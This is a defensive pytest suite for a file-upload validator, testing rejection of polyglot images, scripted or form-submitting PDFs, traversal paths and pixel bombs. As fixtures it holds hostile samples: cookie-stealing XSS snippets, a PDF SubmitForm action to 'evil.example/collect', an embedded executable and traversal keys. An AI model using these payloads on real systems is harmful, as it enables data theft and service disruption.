"""Uploads are judged by their bytes, never by their name (ent_core.sdk.store_upload)."""

from __future__ import annotations

import io
import sys
import zlib
from pathlib import Path

import pytest
from fpdf import FPDF
from PIL import Image
from werkzeug.datastructures import FileStorage

from ent_core import sdk

IMAGES_ONLY = ("image/png", "image/jpeg", "image/webp")


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 60)).save(out, fmt)
    return out.getvalue()


def pdf_bytes(text: str = "Récépissé de dépôt") -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text=text.encode("latin-1", "replace").decode("latin-1"))
    return bytes(pdf.output())


def png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data).to_bytes(4, "big")
    return len(data).to_bytes(4, "big") + kind + data + crc


def rejected(app_ctx, data, **kwargs) -> sdk.UploadRejected:
    """The refusal, with its message in English (the messages are translated)."""
    with app_ctx.test_request_context("/?lang=en"), pytest.raises(sdk.UploadRejected) as info:
        sdk.store_upload(data, **kwargs)
    assert info.value.code == "upload_rejected"
    assert info.value.message
    return info.value


@pytest.mark.parametrize(
    ("fmt", "content_type", "ext"),
    [("PNG", "image/png", "png"), ("JPEG", "image/jpeg", "jpg"), ("WEBP", "image/webp", "webp")],
)
def test_images_are_stored_content_addressed(app_ctx, fmt, content_type, ext) -> None:
    data = image_bytes(fmt)

    stored = sdk.store_upload(data, original_name="photo")

    assert stored.content_type == content_type
    assert stored.size == len(data)
    assert stored.key == f"{stored.sha256[:2]}/{stored.sha256}.{ext}"
    assert (Path(app_ctx.instance_path) / "uploads" / stored.key).read_bytes() == data
    with sdk.open_upload(stored.key) as fh:
        assert fh.read() == data


def test_the_same_content_is_stored_once(app_ctx) -> None:
    data = pdf_bytes()

    first = sdk.store_upload(data, original_name="a.pdf")
    second = sdk.store_upload(data, original_name="b.pdf")

    assert first.key == second.key
    assert (first.original_name, second.original_name) == ("a.pdf", "b.pdf")


def test_a_form_file_keeps_its_name_without_folders(app_ctx) -> None:
    upload = FileStorage(io.BytesIO(pdf_bytes()), filename="../../etc/statuts.pdf")

    stored = sdk.store_upload(upload)

    assert stored.content_type == "application/pdf"
    assert stored.original_name == "statuts.pdf"


def test_a_png_renamed_pdf_is_a_png(app_ctx) -> None:
    data = image_bytes("PNG")

    assert sdk.store_upload(data, original_name="ice.pdf").content_type == "image/png"
    error = rejected(app_ctx, data, allowed=("application/pdf",), original_name="ice.pdf")
    assert error.reason == "type_not_allowed"
    assert "PDF" in error.message


def test_a_pdf_renamed_png_is_refused_where_only_images_go(app_ctx) -> None:
    upload = FileStorage(io.BytesIO(pdf_bytes()), filename="logo.png", content_type="image/png")

    error = rejected(app_ctx, upload, allowed=IMAGES_ONLY)

    assert error.reason == "type_not_allowed"
    assert "not accepted" in error.message


def test_html_renamed_jpg_is_refused(app_ctx) -> None:
    html = b"<!doctype html><html><script>alert(document.cookie)</script></html>"

    error = rejected(app_ctx, FileStorage(io.BytesIO(html), filename="photo.jpg"))

    assert error.reason == "type_not_allowed"


@pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
def test_a_truncated_image_is_refused(app_ctx, fmt) -> None:
    data = image_bytes(fmt, (300, 300))

    error = rejected(app_ctx, data[: len(data) // 2])

    assert error.reason == "damaged"
    assert "damaged or incomplete" in error.message


def test_a_pdf_with_a_repairable_cross_reference_table_is_accepted(app_ctx) -> None:
    import re

    data = re.sub(rb"startxref\s+\d+", b"startxref\n99", pdf_bytes())  # as some scanners write

    assert sdk.store_upload(data).content_type == "application/pdf"


def test_a_damaged_pdf_is_refused(app_ctx) -> None:
    data = pdf_bytes()

    assert rejected(app_ctx, data[: len(data) // 2]).reason == "damaged"
    assert rejected(app_ctx, b"%PDF-1.7\nnot really\n%%EOF").reason == "damaged"


@pytest.mark.parametrize(
    "extra",
    [
        pytest.param(b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", id="pdf-after-png"),
        pytest.param(b"PK\x03\x04" + b"\x00" * 26, id="zip-after-png"),
        pytest.param(b"<html><script>alert(1)</script></html>", id="html-after-png"),
    ],
)
def test_a_polyglot_png_is_refused(app_ctx, extra) -> None:
    error = rejected(app_ctx, image_bytes("PNG") + extra)

    assert error.reason == "polyglot"
    assert "something other than an image" in error.message


def test_markup_hidden_in_a_png_text_chunk_is_refused(app_ctx) -> None:
    data = image_bytes("PNG")
    hidden = png_chunk(b"tEXt", b"Comment\x00<script>fetch('/api/v1/me')</script>")
    polyglot = data[:33] + hidden + data[33:]  # after the IHDR chunk
    Image.open(io.BytesIO(polyglot)).verify()  # still a valid PNG for Pillow

    assert rejected(app_ctx, polyglot).reason == "polyglot"


def test_a_jpeg_with_a_zip_appended_is_refused(app_ctx) -> None:
    data = image_bytes("JPEG") + b"PK\x03\x04payload"

    assert rejected(app_ctx, data).reason == "polyglot"


def _pdf_with_javascript(writer) -> None:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject()
    action[NameObject("/S")] = NameObject("/JavaScript")
    action[NameObject("/JS")] = TextStringObject("app.alert(1)")
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _pdf_with_attachment(writer) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")


@pytest.mark.parametrize("alter", [_pdf_with_javascript, _pdf_with_attachment])
def test_a_pdf_with_scripts_or_attachments_is_refused(app_ctx, alter) -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    alter(writer)
    out = io.BytesIO()
    writer.write(out)

    error = rejected(app_ctx, out.getvalue())

    assert error.reason == "active_content"


def test_too_big_is_refused_with_the_limit(app_ctx) -> None:
    data = image_bytes("PNG", (400, 400))

    error = rejected(app_ctx, FileStorage(io.BytesIO(data), filename="x.png"), max_bytes=1024)

    assert error.reason == "too_large"
    assert "1 KB" in error.message


def test_empty_is_refused(app_ctx) -> None:
    assert rejected(app_ctx, b"").reason == "empty"


def test_the_message_follows_the_language(app) -> None:
    with app.test_request_context("/?lang=fr"), pytest.raises(sdk.UploadRejected) as info:
        sdk.store_upload(b"hello")
    assert "accepté" in info.value.message


def test_send_upload_serves_the_checked_type_without_sniffing(app_ctx) -> None:
    stored = sdk.store_upload(image_bytes("PNG"), original_name="carte.png")

    with app_ctx.test_request_context("/"):
        response = sdk.send_upload(stored.key, download_name="carte.png")
        response.direct_passthrough = False

    assert response.mimetype == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]
    assert response.get_data() == image_bytes("PNG")


@pytest.mark.parametrize("key", ["../secret.png", "ab/../../ent.sqlite3", "ab/xyz.html", ""])
def test_keys_cannot_reach_outside_the_uploads(app_ctx, key) -> None:
    with pytest.raises(ValueError):
        sdk.open_upload(key)


def test_upload_rejected_is_an_api_error(app_ctx) -> None:
    error = rejected(app_ctx, b"plain text")

    assert isinstance(error, ValueError)
    assert error.response().status_code == 422
    assert error.response().get_json()["error"]["details"] == {"reason": "type_not_allowed"}


def test_a_password_protected_pdf_is_refused(app_ctx) -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)

    assert rejected(app_ctx, out.getvalue()).reason == "encrypted"


def test_an_image_that_decodes_to_too_many_pixels_is_refused(app_ctx) -> None:
    out = io.BytesIO()
    Image.new("1", (9000, 5000)).save(out, "PNG")  # 45 megapixels in a few kilobytes

    error = rejected(app_ctx, out.getvalue())

    assert error.reason == "too_many_pixels"


# -- through HTTP: what a client sending real files sees ---------------------------------------

SLUG = "atelier"


def files_on_disk(app) -> list[str]:
    """Every file under the uploads folder, temporary ones included."""
    root = Path(app.instance_path) / "uploads"
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


@pytest.fixture
def applicant(api_client):
    """An API client whose workspace ``atelier`` has an application waiting for documents."""
    from ent_core.testing import SAMPLE_IDENTIFIERS

    body = {
        "slug": SLUG,
        "name": "Atelier",
        "kind": "auto_entrepreneur",
        "identifiers": SAMPLE_IDENTIFIERS["auto_entrepreneur"],
    }
    assert api_client.post("/api/v1/workspaces", json=body).status_code == 201
    return api_client


def post_document(api_client, data: bytes, name: str = "piece.pdf"):
    return api_client.client.post(
        f"/api/v1/workspaces/{SLUG}/application/documents",
        data={"file": (io.BytesIO(data), name)},
        headers={"Authorization": f"Bearer {api_client.token}", "Accept-Language": "en"},
    )


def refused_over_http(app, applicant, data: bytes, name: str = "piece.pdf") -> dict:
    """Post ``data``; assert a 422 that names the field and that nothing new is on disk."""
    before = files_on_disk(app)

    resp = post_document(applicant, data, name)

    assert resp.status_code == 422, resp.get_data(as_text=True)
    error = resp.get_json()["error"]
    assert error["code"] == "upload_rejected"
    assert error["details"]["fields"]["documents"]
    assert files_on_disk(app) == before
    return error


def big_png(width: int, height: int) -> bytes:
    """A bilevel PNG of ``width`` x ``height`` pixels: megapixels in a few kilobytes."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def altered_pdf(alter) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    alter(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _catalog_entry(name: str, value) -> object:
    from pypdf.generic import NameObject

    def alter(writer) -> None:
        writer._root_object[NameObject(name)] = writer._add_object(value())

    return alter


def _acroform():
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject

    form = DictionaryObject()
    form[NameObject("/Fields")] = ArrayObject()
    return form


def _xfa_form():
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    form = DictionaryObject()
    form[NameObject("/XFA")] = TextStringObject("<xdp:xdp/>")
    return form


def _submit_action():
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject()
    action[NameObject("/S")] = NameObject("/SubmitForm")
    action[NameObject("/F")] = TextStringObject("https://evil.example/collect")
    return action


def _encrypted(writer) -> None:
    writer.encrypt("secret", algorithm="AES-256")


def test_a_40_megapixel_image_of_a_few_kilobytes_is_refused_before_decoding(app, applicant):
    data = big_png(8000, 5000)
    assert len(data) < 120_000

    error = refused_over_http(app, applicant, data, "scan.png")

    assert error["details"]["reason"] == "too_many_pixels"
    assert "at most 25 megapixels" in error["message"]


def test_the_pixel_limit_is_configurable(app, applicant, monkeypatch):
    monkeypatch.setitem(app.config, "ENT_UPLOAD_MAX_PIXELS", 1_000_000)

    error = refused_over_http(app, applicant, big_png(1200, 1000), "scan.png")

    assert error["details"]["reason"] == "too_many_pixels"
    assert "at most 1 megapixels" in error["message"]
    monkeypatch.setitem(app.config, "ENT_UPLOAD_MAX_PIXELS", 2_000_000)
    assert post_document(applicant, big_png(1200, 1000), "scan.png").status_code == 201


@pytest.mark.parametrize(
    ("alter", "says"),
    [
        pytest.param(_pdf_with_javascript, "scripts", id="javascript"),
        pytest.param(_catalog_entry("/AcroForm", _acroform), "fillable form", id="acroform"),
        pytest.param(_catalog_entry("/AcroForm", _xfa_form), "fillable form", id="xfa"),
        pytest.param(_catalog_entry("/OpenAction", _submit_action), "send", id="submitform"),
        pytest.param(_pdf_with_attachment, "attached files", id="embedded-files"),
    ],
)
def test_a_pdf_that_runs_submits_or_carries_something_is_refused(app, applicant, alter, says):
    error = refused_over_http(app, applicant, altered_pdf(alter))

    assert error["details"]["reason"] == "active_content"
    assert says in error["message"]


def test_a_pdf_with_web_page_code_is_refused(app, applicant):
    data = pdf_bytes().replace(b"%%EOF", b"%<html><script>alert(1)</script></html>\n%%EOF")

    error = refused_over_http(app, applicant, data)

    assert error["details"]["reason"] == "active_content"
    assert "web page code" in error["message"]


def test_an_encrypted_pdf_gets_a_clear_error(app, applicant):
    error = refused_over_http(app, applicant, altered_pdf(_encrypted))

    assert error["details"]["reason"] == "encrypted"
    assert "password" in error["message"]


def test_a_document_over_the_cap_leaves_nothing_on_disk(app, applicant):
    from ent_core.workspaces.vetting import MAX_DOCUMENTS

    for n in range(MAX_DOCUMENTS):
        assert post_document(applicant, pdf_bytes(f"piece {n}")).status_code == 201
    before = files_on_disk(app)

    resp = post_document(applicant, pdf_bytes("one too many"))

    assert resp.status_code == 422
    assert "At most 10 documents" in resp.get_json()["error"]["message"]
    assert files_on_disk(app) == before


def test_a_refused_application_form_stores_none_of_its_documents(app, signed_in_client):
    from ent_core.testing import SAMPLE_IDENTIFIERS

    data = {"name": "Souss", "slug": "souss", "kind": "media", "sectors": ["it"]}
    data.update(SAMPLE_IDENTIFIERS["media"], ice="not an ice")
    data["documents"] = [(io.BytesIO(pdf_bytes("kept?")), "ice.pdf")]
    before = files_on_disk(app)

    resp = signed_in_client.post("/workspaces/new", data=data)

    assert resp.status_code == 422
    assert files_on_disk(app) == before


# -- memory: concurrent decodes wait for a slot -------------------------------------------------

#: Run in a fresh interpreter, so nothing else of the test session counts. A thread samples the
#: resident memory (``/proc/self/statm``) while one image is checked alone, then ``THREADS`` at
#: once; the second peak must stay near the first. glibc is told to give big blocks back to the
#: system on free (Pillow's 16 MB blocks otherwise stay in per-thread arenas), so the resident
#: memory counts live bitmaps only.
_MEASURE = """
import json, os, sys, threading, time
from ent_core import create_app, sdk
from ent_core.testing import sample_image

instance, image_path, slots, threads = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
app = create_app({
    "ENT_ENV": "testing", "ENT_INSTANCE_PATH": instance, "REDIS_URL": None, "SMTP_URL": None,
    "SQLALCHEMY_DATABASE_URI": "sqlite://", "ENT_IMAGE_DECODE_CONCURRENCY": slots,
})
data = open(image_path, "rb").read()
page = os.sysconf("SC_PAGE_SIZE")

def rss():
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * page

def check():
    with app.test_request_context("/"):
        sdk.check_upload(data)

def peak_growth(*runs):
    base, top, done = rss(), [0], threading.Event()
    def sample():
        while not done.is_set():
            top[0] = max(top[0], rss())
            time.sleep(0.0005)
    sampler = threading.Thread(target=sample)
    sampler.start()
    start = threading.Barrier(len(runs))
    workers = [threading.Thread(target=lambda run=run: (start.wait(), run())) for run in runs]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    done.set()
    sampler.join()
    return top[0] - base

with app.test_request_context("/"):
    sdk.check_upload(sample_image("PNG"))  # imports and warms Pillow's decoders
print(json.dumps({"one": peak_growth(check), "many": peak_growth(*[check] * threads)}))
"""


def striped_png(width: int, height: int) -> bytes:
    """An RGB PNG written row by row (never held decoded here): megabytes of pixels, small file."""
    compressor = zlib.compressobj(9)
    row = b"\x00" + bytes(range(256)) * (width * 3 // 256) + b"\x00" * (width * 3 % 256)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def decode_peaks(tmp_path, slots: int, threads: int = 4) -> dict[str, int]:
    import json
    import os
    import subprocess
    import sys

    image = tmp_path / "big.png"
    image.write_bytes(striped_png(4000, 3000))  # 12 megapixels: some 48 MB once decoded
    env = {**os.environ, "MALLOC_MMAP_THRESHOLD_": "131072", "MALLOC_ARENA_MAX": "1"}
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(tmp_path), str(image), str(slots), str(threads)],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        check=True,
    )
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="glibc's malloc settings")
def test_concurrent_image_decodes_keep_peak_memory_near_one_decode(tmp_path) -> None:
    peaks = decode_peaks(tmp_path, slots=1)

    assert peaks["one"] > 20 * 1024 * 1024, peaks  # the image really was decoded
    # Four at once cost about one more than one alone (margin: half a bitmap and 16 MB).
    assert peaks["many"] < peaks["one"] * 1.5 + 16 * 1024 * 1024, peaks
